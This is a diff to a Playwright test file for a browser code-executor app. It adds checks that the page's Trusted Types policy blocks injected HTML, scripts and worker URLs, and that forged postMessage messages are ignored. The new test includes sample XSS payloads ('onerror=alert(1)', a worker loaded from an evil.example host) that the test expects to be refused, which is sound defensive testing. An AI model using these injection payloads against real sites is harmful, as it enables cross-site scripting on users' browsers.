@@ -92,7 +92,11 @@ test('forged messages are ignored: from the page, from another frame, malformed 
   await page.evaluate((msg) => window.postMessage(msg, '*'), forged);
   await page.evaluate((msg) => {
     const other = document.createElement('iframe');
-    other.srcdoc = `<script>parent.postMessage(${JSON.stringify(msg)}, '*')</` + `script>`;
+    // The test stands in for another frame: under the page's Trusted Types, writing its srcdoc takes a policy.
+    const tt = (window as unknown as { trustedTypes: { createPolicy(n: string, r: object): { createHTML(s: string): string } } })
+      .trustedTypes;
+    const policy = tt.createPolicy('executor-output-html', { createHTML: (s: string) => s });
+    other.srcdoc = policy.createHTML(`<script>parent.postMessage(${JSON.stringify(msg)}, '*')</` + `script>`);
     document.body.appendChild(other);
   }, forged);
   const frame = page.frames().find((f) => f.url().endsWith('/frame.html'));
@@ -135,4 +139,47 @@ test('the page and the frame deny powerful features (Permissions-Policy), with n
   }
   await executor.run('import js\nprint("shared memory:", hasattr(js, "SharedArrayBuffer") and js.crossOriginIsolated)');
   await expect(executor.output).toContainText('shared memory: True');
+});
+
+test.describe('Trusted Types', () => {
+  test.use({ freshPage: true });
+
+  test('the page refuses HTML and script URLs from strings, and the editor, an HTML output and the chat work with no violation', async ({
+    executor,
+  }) => {
+    const { page } = executor;
+    // Violations from now on (the page is open: its policies exist).
+    await page.evaluate(() => {
+      const seen: string[] = [];
+      (window as unknown as { violations: string[] }).violations = seen;
+      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.sourceFile}:${e.lineNumber}`));
+    });
+    const refused = await page.evaluate(() => {
+      const tries: Record<string, () => unknown> = {
+        innerHTML: () => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'),
+        worker: () => new Worker('https://evil.example/w.js'),
+        script: () => (document.createElement('script').textContent = 'alert(1)'),
+      };
+      return Object.fromEntries(
+        Object.entries(tries).map(([name, attempt]) => {
+          try {
+            attempt();
+            return [name, 'allowed'];
+          } catch (err) {
+            return [name, (err as Error).name];
+          }
+        }),
+      );
+    });
+    expect(refused).toEqual({ innerHTML: 'TypeError', worker: 'TypeError', script: 'TypeError' });
+    await page.evaluate(() => ((window as unknown as { violations: string[] }).violations.length = 0));
+
+    await executor.run('from executor import HTML\ndisplay(HTML("<b>bold &amp; <i>styled</i></b>"))\nprint("shown")');
+    await expect(page.frameLocator('[data-testid="display-html"]').first().locator('i')).toHaveText('styled');
+    await executor.setCode('import math\nmath.sqrt(4)\n');
+    await page.getByTestId('chat-input').fill('what can you do? &amp;');
+    await page.getByTestId('chat-input').press('Enter');
+    await expect(page.getByTestId('chat-log')).toContainText('offline assistant');
+    expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
+  });
 });
